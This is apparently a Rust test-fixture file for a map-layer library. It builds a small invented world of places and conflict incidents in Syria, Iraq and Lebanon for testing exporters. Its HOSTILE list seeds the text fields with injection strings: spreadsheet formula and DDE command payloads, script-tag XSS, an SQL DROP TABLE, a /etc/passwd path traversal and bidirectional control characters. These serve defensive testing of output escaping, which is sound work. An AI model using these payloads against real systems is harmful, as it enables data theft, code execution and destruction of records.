//! A small world for tests of layers and exporters: a few places, two borders, incidents of every kind, hostile text.

#![allow(
    dead_code,
    unreachable_pub,
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "a test file uses its part of this, and fails by panic"
)]

use geo::{Geometry, MultiLineString, line_string, polygon};
use wallmap::layers::{Geography, LayerInput, ReportRow, Vocabulary, make_layers};
use wallmap::model::{
    ActorRef, Attribution, Correction, Count, Date, DateBasis, DatePrecision, EventDate, EventPlace, Figure,
    GeoPrecision, Incident, IncidentMention, Kind, Layer, Mention, Outlined, Place, PlaceKind, PlaceRelation,
    SiteFact, SiteFactKind, Span, Status,
};
use wallmap::profile::Profile;

/// Two straight borders: Aland and Beland along 41 E, Aland and Celand along 36 E.
pub struct Map {
    ab: MultiLineString<f64>,
    ac: MultiLineString<f64>,
    shapes: [Geometry<f64>; 2],
}

impl Default for Map {
    fn default() -> Self {
        Self {
            ab: MultiLineString::new(vec![
                line_string![(x: 41.0, y: 33.0), (x: 41.2, y: 35.0), (x: 41.0, y: 37.0)],
            ]),
            ac: MultiLineString::new(vec![line_string![(x: 36.0, y: 33.0), (x: 36.0, y: 35.0)]]),
            shapes: [
                Geometry::Polygon(
                    polygon![(x: 36.0, y: 33.0), (x: 41.0, y: 33.0), (x: 41.2, y: 35.0), (x: 41.0, y: 37.0), (x: 36.0, y: 37.0)],
                ),
                Geometry::Polygon(
                    polygon![(x: 41.0, y: 33.0), (x: 46.0, y: 33.0), (x: 46.0, y: 37.0), (x: 41.0, y: 37.0), (x: 41.2, y: 35.0)],
                ),
            ],
        }
    }
}

impl Geography for Map {
    fn border(&self, a: &str, b: &str) -> Option<&MultiLineString<f64>> {
        match (a.min(b), a.max(b)) {
            ("IRQ", "SYR") => Some(&self.ab),
            ("LBN", "SYR") => Some(&self.ac),
            _ => None,
        }
    }
    fn border_pairs(&self) -> Vec<(String, String)> {
        vec![("IRQ".into(), "SYR".into()), ("LBN".into(), "SYR".into())]
    }
    fn country_code(&self, cc: &str) -> Option<String> {
        ["SYR", "IRQ", "LBN"]
            .iter()
            .find(|c| matches!((cc, **c), ("SY", "SYR") | ("IQ", "IRQ") | ("LB", "LBN")))
            .map(|c| (*c).to_owned())
    }
    fn border_place(&self, a: &str, b: &str) -> Option<String> {
        (a.min(b) == "LBN").then(|| "border-lb-sy".to_owned())
    }
    fn countries(&self) -> Vec<(String, String)> {
        ["IRQ", "LBN", "SYR"].iter().map(|c| ((*c).to_owned(), self.country_name(c).unwrap())).collect()
    }
    fn country_name(&self, iso3: &str) -> Option<String> {
        let name = match iso3 {
            "SYR" => "Syria",
            "IRQ" => "Iraq",
            "LBN" => "Lebanon",
            _ => return None,
        };
        Some(name.to_owned())
    }
    fn place(&self, id: &str) -> Option<Place> {
        let told = PLACES.iter().find(|p| p.0 == id)?;
        let closed = id == "tent-camp";
        Some(Place {
            id: id.to_owned(),
            name: told.1.to_owned(),
            kind: told.2,
            lat: told.4,
            lon: told.3,
            radius_km: None,
            cc: told.5.to_owned(),
            admin1: "Middle".to_owned(),
            admin2: String::new(),
            population: if told.2 == PlaceKind::City { 200_000 } else { 0 },
            geom_id: String::new(),
            geonames: 0,
            status: if closed { "closed".to_owned() } else { String::new() },
            valid_from: None,
            valid_to: closed.then(|| day(2025, 3, 31)),
            source: "test".to_owned(),
        })
    }
    fn sites(&self, cc: &str) -> Vec<Place> {
        PLACES.iter().filter(|p| p.5 == cc && p.2.is_site()).filter_map(|p| self.place(p.0)).collect()
    }
    fn shape(&self, geom_id: &str) -> Option<&Geometry<f64>> {
        match geom_id {
            "SYR" => Some(&self.shapes[0]),
            "IRQ" => Some(&self.shapes[1]),
            _ => None,
        }
    }
}

pub struct Words;

impl Vocabulary for Words {
    fn acled(&self, incident: &Incident) -> (String, String) {
        match incident.kind {
            Kind::Airstrike => ("Explosions/Remote violence".into(), "Air/drone strike".into()),
            _ => ("Battles".into(), "Armed clash".into()),
        }
    }
    fn weapon(&self, id: &str) -> Option<String> {
        (id == "ied").then(|| "improvised bomb".to_owned())
    }
}

type PlaceRow = (&'static str, &'static str, PlaceKind, f64, f64, &'static str);

/// id, name, kind, lon, lat, country.
pub const PLACES: &[PlaceRow] = &[
    ("north-town", "North Town", PlaceKind::City, 38.0, 36.0, "SY"),
    ("border-town", "Border Town", PlaceKind::Town, 41.1, 35.0, "IQ"),
    ("west-town", "West Town", PlaceKind::Town, 36.1, 34.0, "SY"),
    ("open-steppe", "Open Steppe", PlaceKind::Desert, 39.0, 34.5, "SY"),
    ("tent-camp", "Tent Camp", PlaceKind::Camp, 40.5, 36.5, "SY"),
    ("old-prison", "Old Prison", PlaceKind::Prison, 40.0, 36.2, "SY"),
    ("far-town", "دير الزور", PlaceKind::Town, 38.5, 35.2, "SY"),
];

pub fn day(year: i16, month: i8, day: i8) -> Date {
    jiff::civil::date(year, month, day)
}

pub fn at(id: &str) -> EventPlace {
    let &(id, name, kind, lon, lat, cc) =
        PLACES.iter().find(|p| p.0 == id).expect("a place of the small world");
    let (precision, uncertainty_km) = match kind {
        PlaceKind::Desert => (GeoPrecision::Region, 120.0),
        PlaceKind::Camp | PlaceKind::Prison => (GeoPrecision::Site, 1.0),
        _ => (GeoPrecision::Town, 5.0),
    };
    let (country, iso3) = if cc == "IQ" { ("Iraq", "IRQ") } else { ("Syria", "SYR") };
    EventPlace {
        place_id: id.to_owned(),
        name: name.to_owned(),
        kind,
        lon,
        lat,
        as_written: name.to_owned(),
        span: Span::new(0, 5),
        relation: PlaceRelation::In,
        precision,
        uncertainty_km,
        admin1: "Middle".to_owned(),
        admin2: String::new(),
        country: country.to_owned(),
        iso3: iso3.to_owned(),
        geom_id: String::new(),
        score: 0.9,
    }
}

/// Text that does harm where a format takes it for more than text.
pub const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "]]> <!-- & &amp; --> [% 1+1 %] $[name]",
    "'; DROP TABLE incidents; --",
    "\"quoted\", with, commas; and\nnew\r\nlines\tand tabs",
    "null \u{0} escape \u{1b}[31mred\u{1b}[0m bell \u{7} \u{85} \u{fffe}",
    "دير الزور \u{202e}gnitirw\u{202c} \u{200f} 🔥 e\u{301} ﷽",
    "../../../etc/passwd",
    "1e5",
    "007",
    "2025-01-01",
    "javascript:alert(1)",
];

/// An incident of one mention.
pub fn incident(id: &str, kind: Kind, place: Option<&str>, start: Option<Date>, text: &str) -> Incident {
    let date = start.map_or(EventDate::UNKNOWN, |d| EventDate {
        start: Some(d),
        end: Some(d),
        precision: DatePrecision::Day,
        basis: DateBasis::Explicit,
    });
    let mention = Mention {
        report: format!("report-{id}"),
        kind,
        status: Status::Occurred,
        attribution: Attribution::Fact,
        date,
        place: place.map(at),
        named: None,
        to_place: None,
        perpetrator: vec![ActorRef { id: "group".into(), name: text.to_owned(), inter: 2 }],
        target: vec![ActorRef { id: String::new(), name: "civilians".into(), inter: 7 }],
        weapon: Some("ied".into()),
        killed: Some(Count::at_least(3)),
        injured: None,
        detained: Some(Count::exact(0)),
        abducted: None,
        trigger: Span::new(4, 9),
        quote: Span::new(0, text.len()),
        quote_text: text.to_owned(),
        further: Vec::new(),
        rule: "test-rule".into(),
        because: Vec::new(),
        features: Vec::new(),
        confidence: 0.8125,
    };
    Incident {
        id: id.to_owned(),
        aliases: Vec::new(),
        kind,
        status: mention.status,
        attribution: mention.attribution,
        date,
        place: mention.place.clone(),
        to_place: None,
        perpetrator: mention.perpetrator.clone(),
        target: mention.target.clone(),
        weapon: mention.weapon.clone(),
        killed: mention.killed,
        injured: mention.injured,
        detained: mention.detained,
        abducted: mention.abducted,
        confidence: mention.confidence,
        headline: format!("{kind} {text}"),
        lead: 0,
        mentions: vec![IncidentMention {
            mention,
            outlet: "Outlet".into(),
            url: "https://news.invalid/a;b c".into(),
            published: start.and_then(|d| d.tomorrow().ok()),
            echo: false,
            joined_by: String::new(),
        }],
        because: Vec::new(),
        corrections: Vec::new(),
    }
}

/// What the tests make layers from.
pub struct World {
    pub map: Map,
    pub incidents: Vec<Incident>,
    pub rejected: Vec<Incident>,
    pub figures: Vec<Figure>,
    pub site_facts: Vec<SiteFact>,
    pub reports: Vec<ReportRow>,
    pub profile: Profile,
    pub now: Option<Date>,
}

impl World {
    pub fn layers(&self) -> Vec<Layer> {
        make_layers(&self.input()).expect("the small world makes layers")
    }

    pub fn input(&self) -> LayerInput<'_> {
        LayerInput {
            // Once a test: it may lie about.
            incidents: self.incidents.iter().map(Outlined::of).collect::<Vec<_>>().leak(),
            rejected: &self.rejected,
            figures: &self.figures,
            site_facts: &self.site_facts,
            reports: &self.reports,
            now: self.now,
            geography: &self.map,
            vocabulary: &Words,
            code_points: &|_, span| span,
            profile: &self.profile,
        }
    }
}

/// An empty world under the profile for the Levant.
pub fn empty() -> World {
    World {
        map: Map::default(),
        incidents: Vec::new(),
        rejected: Vec::new(),
        figures: Vec::new(),
        site_facts: Vec::new(),
        reports: Vec::new(),
        profile: Profile::embedded("levant").expect("the profile loads"),
        now: Some(day(2025, 6, 1)),
    }
}

/// A world with every kind, every layer, and hostile text in every field that takes text.
pub fn full() -> World {
    let mut world = empty();
    let towns =
        ["north-town", "border-town", "west-town", "far-town", "open-steppe", "old-prison", "tent-camp"];
    for (n, &kind) in Kind::ALL.iter().enumerate() {
        let text = HOSTILE[n % HOSTILE.len()];
        let id = format!("inc-{:0>10}", kind.as_str().replace('_', "").chars().take(10).collect::<String>());
        let start = day(2025, 1 + i8::try_from(n % 5).unwrap(), 1 + i8::try_from(n).unwrap());
        let mut one = incident(&id, kind, Some(towns[n % towns.len()]), Some(start), text);
        one.status = Status::ALL[n % Status::ALL.len()];
        one.killed = (n % 3 > 0).then(|| Count::exact(u32::try_from(n * 3).unwrap()));
        if kind == Kind::Movement {
            one.status = Status::Occurred;
            one.place = Some(at("open-steppe"));
            one.to_place = Some(Box::new(at("north-town")));
        }
        world.incidents.push(one);
    }
    world.incidents.push(incident("inc-undatednowhere", Kind::Killing, None, None, &"long ".repeat(20_000)));
    world.incidents.push(incident("inc-undatedhere", Kind::Killing, Some("north-town"), None, "undated"));
    let mut gone =
        incident("inc-rejected", Kind::Killing, Some("north-town"), Some(day(2025, 2, 2)), "rumour");
    gone.corrections.push(correction("", "", "rejected"));
    world.rejected.push(gone);
    world.incidents[0].corrections.push(correction("killed", "3", "=4"));
    world.figures.push(figure());
    world.site_facts = vec![population(), status()];
    for incident in &world.incidents {
        let told = &incident.mentions[0];
        world.reports.push(ReportRow {
            id: told.mention.report.clone(),
            title: told.mention.quote_text.clone(),
            published: told.published,
            published_found_in: "field".into(),
            outlet: told.outlet.clone(),
            url: told.url.clone(),
            characters: 1200,
            outcome: "read".into(),
            ..ReportRow::default()
        });
    }
    world
}

fn correction(field: &str, before: &str, after: &str) -> Correction {
    Correction {
        field: field.to_owned(),
        before: before.to_owned(),
        after: after.to_owned(),
        by: "=an analyst".to_owned(),
        when: "2025-06-01".to_owned(),
        why: HOSTILE[4].to_owned(),
    }
}

fn figure() -> Figure {
    Figure {
        report: "report-inc-armedclash".into(),
        value: Count::exact(38),
        unit: "attacks".into(),
        what: "attacks".into(),
        place: Some(at("north-town")),
        period: EventDate {
            start: Some(day(2025, 1, 1)),
            end: Some(day(2025, 5, 31)),
            precision: DatePrecision::Year,
            basis: DateBasis::Explicit,
        },
        says: "=a monitor".into(),
        actor: "group".into(),
        quote: Span::new(0, 10),
        quote_text: "38 attacks, January to May".into(),
        rule: "figure".into(),
    }
}

fn population() -> SiteFact {
    SiteFact {
        report: "report-inc-armedclash".into(),
        place: at("tent-camp"),
        kind: SiteFactKind::Population,
        value: Some(Count::at_least(40_000)),
        text: String::new(),
        date: EventDate::day(day(2025, 1, 2), DateBasis::Explicit),
        shared_with: vec!["old-prison".into()],
        quote: Span::new(0, 10),
        quote_text: "Tent Camp, which holds over 40,000".into(),
        rule: "population".into(),
    }
}

fn status() -> SiteFact {
    SiteFact {
        kind: SiteFactKind::Status,
        value: None,
        text: "open".into(),
        quote_text: "still open".into(),
        ..population()
    }
}

/// The value of a field of a feature.
pub fn value(layer: &Layer, id: &str, field: &str) -> wallmap::model::Value {
    let at = layer.fields.iter().position(|f| f.name == field).unwrap_or_else(|| panic!("no field {field}"));
    let feature = layer.features.iter().find(|f| f.id == id).unwrap_or_else(|| panic!("no feature {id}"));
    feature.values.get(at).unwrap_or_else(|| panic!("no value of {field}")).to_value()
}

pub fn layer<'l>(layers: &'l [Layer], name: &str) -> &'l Layer {
    layers.iter().find(|l| l.name == name).unwrap_or_else(|| panic!("no layer {name}"))
}
